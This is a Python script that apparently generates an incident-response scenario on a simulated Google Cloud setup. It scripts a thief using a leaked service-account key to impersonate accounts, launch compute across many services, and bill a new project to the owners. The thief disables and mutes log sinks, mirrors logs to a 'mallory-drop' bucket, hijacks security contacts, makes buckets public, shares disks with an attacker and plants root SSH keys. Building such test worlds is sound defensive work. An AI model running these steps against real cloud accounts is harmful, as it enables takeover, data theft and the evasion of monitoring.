"""An attack on what is not Compute: settings, buckets, and one of everything that a managed service runs, each with an innocent namesake.

    tail_b.py URL > world.json

Beside the world's usual fields it tells `made` (service and full name, by the thief) and `twins` (the same, by the owners).
"""

import copy
import json
import sys
import time

from attack import BUILDER, DATA, DEPLOYER, LAB, MINUTE, MALLORY, OPERATOR, OPS, ORG, RESPONSE, SANDBOX, SHOP, STAGE, TOOL, house
from cloud import OWNERS, RESPONDER, THIEF, Actor, door

REGION, ZONE = "us-central1", "us-central1-b"
RUN = ["batch", "dataproc", "dataflow", "aiplatform", "notebooks", "tpu"]
MINED = "dig-mine-3316"
BILLING = "billingAccounts/012345-6789AB-CDEF01"


def enable(actor, project, services):
    actor("serviceusage").services().batchEnable(parent=f"projects/{project}", body={"serviceIds": [f"{each}.googleapis.com" for each in services]}).execute()
    time.sleep(0.3)


def one_of_each(url, actor, project):
    """One of everything that a managed service runs; (service, full name) of each."""
    here, zonal, region = f"projects/{project}/locations/{REGION}", f"projects/{project}/locations/{ZONE}", f"projects/{project}/regions/{REGION}"
    made = []
    batch = actor("batch").projects().locations().jobs()
    batch.create(parent=here, jobId="dig", body={"taskGroups": [{"taskCount": "100", "taskSpec": {"runnables": [{"script": {"text": "exit 0"}}]}}]}).execute()
    made.append(("batch", f"{here}/jobs/dig"))
    dataproc = actor("dataproc").projects()
    clusters = dataproc.regions().clusters()
    clusters.create(projectId=project, region=REGION, body={"projectId": project, "clusterName": "dig", "config": {"workerConfig": {"numInstances": 5}}}).execute()
    made.append(("dataproc", f"{region}/clusters/dig"))
    dataproc.regions().jobs().submit(projectId=project, region=REGION, body={"job": {
        "reference": {"jobId": "dig"}, "placement": {"clusterName": "dig"}, "pysparkJob": {"mainPythonFileUri": "gs://example/dig.py"}}}).execute()
    made.append(("dataproc", f"{region}/jobs/dig"))
    dataproc.locations().batches().create(parent=here, batchId="dig", body={"pysparkBatch": {"mainPythonFileUri": "gs://example/dig.py"}}).execute()
    made.append(("dataproc", f"{here}/batches/dig"))
    dataproc.locations().sessions().create(parent=here, sessionId="dig", body={"jupyterSession": {"kernel": "PYTHON"}}).execute()
    made.append(("dataproc", f"{here}/sessions/dig"))
    job = actor("dataflow", "v1b3").projects().locations().jobs().create(projectId=project, location=REGION, body={"name": "dig", "type": "JOB_TYPE_BATCH"}).execute()
    made.append(("dataflow", f"{here}/jobs/{job['id']}"))
    vertex = actor("aiplatform").projects().locations()
    pool = {"displayName": "dig", "jobSpec": {"workerPoolSpecs": [{"replicaCount": "4", "machineSpec": {"machineType": "a2-highgpu-1g"}}]}}
    made.append(("aiplatform", vertex.customJobs().create(parent=here, body=pool).execute()["name"]))
    made.append(("aiplatform", vertex.pipelineJobs().create(parent=here, pipelineJobId="dig", body={"displayName": "dig"}).execute()["name"]))
    vertex.endpoints().create(parent=here, endpointId="77", body={"displayName": "dig"}).execute()
    made.append(("aiplatform", f"{here}/endpoints/77"))
    for model, split in (("1", {"0": 100}), ("2", {"1": 40, "0": 60})):
        vertex.endpoints().deployModel(endpoint=f"{here}/endpoints/77", body={"trafficSplit": split, "deployedModel": {
            "id": model, "model": f"{here}/models/{model}", "dedicatedResources": {"minReplicaCount": 2, "machineSpec": {"machineType": "g2-standard-48"}}}}).execute()
        door(url, "settle")
    actor("notebooks", "v2").projects().locations().instances().create(parent=zonal, instanceId="dig", body={"gceSetup": {"machineType": "n1-standard-4"}}).execute()
    made.append(("notebooks", f"{zonal}/instances/dig"))
    tpu = actor("tpu", "v2").projects().locations()
    tpu.nodes().create(parent=zonal, nodeId="dig", body={"acceleratorType": "v2-8", "runtimeVersion": "tpu-vm-base"}).execute()
    made.append(("tpu", f"{zonal}/nodes/dig"))
    tpu.queuedResources().create(parent=zonal, queuedResourceId="more", body={"tpu": {"nodeSpec": [{"parent": zonal, "nodeId": "more", "node": {
        "acceleratorType": "v5litepod-256", "runtimeVersion": "tpu-vm-base"}}]}}).execute()
    made.append(("tpu", f"{zonal}/queuedResources/more"))
    door(url, "settle")
    return made


def settings(actor, project):
    """What the owners have in one project."""
    sinks, exclusions = actor("logging", "v2").projects().sinks(), actor("logging", "v2").projects().exclusions()
    at = f"projects/{project}"
    sinks.create(parent=at, body={"name": "errors", "destination": "storage.googleapis.com/shop-assets-4821", "filter": "severity>=ERROR",
                                  "exclusions": [{"name": "chatter", "filter": "severity=DEBUG"}]}, uniqueWriterIdentity=True).execute()
    exclusions.create(parent=at, body={"name": "noise", "filter": 'resource.type="http_load_balancer"'}).execute()
    contacts = actor("essentialcontacts").projects().contacts()
    return [contacts.create(parent=at, body={"email": email, "languageTag": "en", "notificationCategorySubscriptions": ["SECURITY"]}).execute()["name"]
            for email in ("security@example.com", "oncall@example.com")]


def main(url):
    door(url, "knobs", {"seconds": 0.05})
    alice, file = house(url)
    crm = alice("cloudresourcemanager", "v3")
    for project in (STAGE, LAB):
        enable(alice, project, RUN if project == STAGE else [])
    for role, resource in (("roles/compute.admin", f"projects/{LAB}"), ("roles/serviceusage.serviceUsageAdmin", f"projects/{LAB}")):
        alice.bind(crm.projects(), resource, role, f"serviceAccount:{OPERATOR}")
    alice.bind(crm.folders(), f"folders/{SANDBOX}", "roles/resourcemanager.projectCreator", f"serviceAccount:{OPERATOR}")
    door(url, "tree", {"policies": {BILLING: {"bindings": [
        {"role": "roles/billing.admin", "members": ["user:alice@example.com", f"user:{RESPONSE}", f"serviceAccount:{OPERATOR}"]}]}}})
    contacts = {project: settings(alice, project) for project in (SHOP, DATA)}
    # A later change of the owners' is what was before the thief, not how it was first made.
    sinks = alice("logging", "v2").projects().sinks()
    sinks.patch(sinkName=f"projects/{SHOP}/sinks/errors", updateMask="filter,description", uniqueWriterIdentity=True,
                body={"filter": "severity>=WARNING", "description": "on-call reads it"}).execute()
    alice("storage").buckets().insert(project=SHOP, body={"name": "shop-web-4821"}).execute()
    policy = alice("storage").buckets().getIamPolicy(bucket="shop-web-4821").execute()
    policy["bindings"].append({"role": "roles/storage.objectViewer", "members": ["allUsers"]})
    alice("storage").buckets().setIamPolicy(bucket="shop-web-4821", body=policy).execute()
    alice("storage").buckets().insert(project=SHOP, body={"name": "shop-books-4821", "iamConfiguration": {
        "publicAccessPrevention": "enforced", "uniformBucketLevelAccess": {"enabled": True}}}).execute()
    compute = alice("compute")
    alice.done(LAB, compute.disks().insert(project=LAB, zone=ZONE, body={"name": "ledger", "sizeGb": "10"}).execute())
    alice.done(LAB, compute.disks().createSnapshot(project=LAB, zone=ZONE, disk="ledger", body={"name": "ledger"}).execute())
    twins = one_of_each(url, alice, STAGE)

    # ---- the thief ------------------------------------------------------------------------------------------------------------
    leaked_at = door(url, "clock", {"offset": -40 * MINUTE})
    door(url, "abuse", {"project": SHOP, "event": {"detectionType": "LEAKED_CREDENTIALS", "action": "NOTIFY", "leakedCredentialEvent": {
        "serviceAccountCredential": {"serviceAccount": BUILDER, "keyId": file["private_key_id"]}, "detectedUri": ["https://git.example.net/dotfiles/key.json"]}}})
    thief = Actor.of_key(url, file, THIEF, agent=TOOL)
    deployer = thief.become(DEPLOYER, agent=TOOL)
    operator = thief.become(OPERATOR, [DEPLOYER], agent=TOOL)
    enable(operator, LAB, [*RUN, "translate"])
    made = one_of_each(url, operator, LAB)
    # One that Google only deletes, and one whose name is another's by now.
    region = f"projects/{LAB}/regions/{REGION}"
    operator("dataproc").projects().regions().clusters().create(projectId=LAB, region=REGION, body={
        "projectId": LAB, "clusterName": "elastic", "config": {"secondaryWorkerConfig": {"numInstances": 50}}}).execute()
    again = f"projects/{LAB}/locations/{REGION}/jobs/again"
    job = {"taskGroups": [{"taskSpec": {"runnables": [{"script": {"text": "exit 0"}}]}}]}
    operator("batch").projects().locations().jobs().create(parent=again.split("/jobs/")[0], jobId="again", body=job).execute()

    logging = thief("logging", "v2").projects()
    logging.sinks().delete(sinkName=f"projects/{SHOP}/sinks/to-archive").execute()
    logging.sinks().patch(sinkName=f"projects/{SHOP}/sinks/errors", updateMask="disabled,filter", uniqueWriterIdentity=True,
                          body={"disabled": True, "filter": "severity>=EMERGENCY"}).execute()
    logging.sinks().create(parent=f"projects/{SHOP}", body={"name": "mirror", "destination": "storage.googleapis.com/mallory-drop"}, uniqueWriterIdentity=True).execute()
    logging.exclusions().patch(name=f"projects/{SHOP}/exclusions/noise", updateMask="filter", body={"filter": "severity<=CRITICAL"}).execute()
    logging.exclusions().create(parent=f"projects/{SHOP}", body={"name": "hush", "filter": "severity<=ALERT"}).execute()
    people = thief("essentialcontacts").projects().contacts()
    people.delete(name=contacts[SHOP][0]).execute()
    people.patch(name=contacts[SHOP][1], updateMask="email", body={"email": "mallory@example.net"}).execute()
    buckets = thief("storage").buckets()
    policy = buckets.getIamPolicy(bucket="shop-assets-4821").execute()
    policy["bindings"].append({"role": "roles/storage.objectViewer", "members": ["allUsers"]})
    buckets.setIamPolicy(bucket="shop-assets-4821", body=policy).execute()
    buckets.patch(bucket="shop-books-4821", body={"iamConfiguration": {"publicAccessPrevention": "inherited"}}).execute()
    vms = operator("compute")
    for collection, more in ((vms.disks(), {"zone": ZONE}), (vms.snapshots(), {})):
        collection.setIamPolicy(project=LAB, resource="ledger", body={"policy": {"bindings": [{"role": "roles/compute.storageAdmin", "members": [MALLORY]}]}}, **more).execute()
    operator("cloudresourcemanager", "v3").projects().create(body={"projectId": MINED, "parent": f"folders/{SANDBOX}", "displayName": "dig"}).execute()
    door(url, "settle")
    operator("cloudbilling").projects().updateBillingInfo(name=f"projects/{MINED}", body={"billingAccountName": BILLING}).execute()
    # SSH keys in two projects; in the second the owners add theirs later.
    keyed(deployer, DATA, "root:ssh-ed25519 AAAAC3Nza mallory")
    keyed(operator, LAB, "root:ssh-ed25519 AAAAC3Nza mallory")

    # ---- and the owners go on ---------------------------------------------------------------------------------------------------
    door(url, "clock", {"offset": -10 * MINUTE})
    jobs = alice("batch").projects().locations().jobs()
    jobs.delete(name=again).execute()
    door(url, "settle")
    jobs.create(parent=again.split("/jobs/")[0], jobId="again", body=job).execute()
    twins.append(("batch", again))
    door(url, "settle")
    door(url, "clock", {"offset": 0})
    return {
        "organization": f"organizations/{ORG}", "leaked_at": leaked_at, "key": file["private_key_id"], "made": made, "twins": twins, "contacts": contacts[SHOP],
        "projects": {"shop": SHOP, "data": DATA, "stage": STAGE, "lab": LAB, "ops": OPS, "mined": MINED}, "zone": ZONE, "elastic": f"{region}/clusters/elastic",
        "files": {"leaked": file, "responder": door(url, "user", {"email": RESPONSE, "quota": OPS})}, "resources": [],
        "tokens": {"leaked": thief.credentials.token, "deployer": deployer.credentials.token, "operator": operator.credentials.token},
        "addresses": {"thief": THIEF, "owners": OWNERS, "responder": RESPONDER},
    }


def keyed(actor, project, keys):
    compute = actor("compute")
    metadata = copy.deepcopy(compute.projects().get(project=project).execute()["commonInstanceMetadata"])
    items = [row for row in metadata.get("items", []) if row["key"] != "ssh-keys"]
    actor.done(project, compute.projects().setCommonInstanceMetadata(project=project, body={
        "fingerprint": metadata["fingerprint"], "items": items + [{"key": "ssh-keys", "value": keys}]}).execute())


def owners_key(url):
    """The owners' own key beside the thief's."""
    alice = Actor.of_user(url, "alice@example.com", OWNERS, agent="google-cloud-sdk gcloud/528.0.0", quota=OPS)
    keyed(alice, LAB, "root:ssh-ed25519 AAAAC3Nza mallory\nalice:ssh-ed25519 AAAAC3Nzb alice")
    return {}


if __name__ == "__main__":
    told = owners_key(sys.argv[1]) if sys.argv[2:] == ["owners-key"] else main(sys.argv[1])
    if sys.argv[2:] == []:
        door(sys.argv[1], "knobs", {"seconds": 0.2})
    json.dump(told, sys.stdout, indent=1)
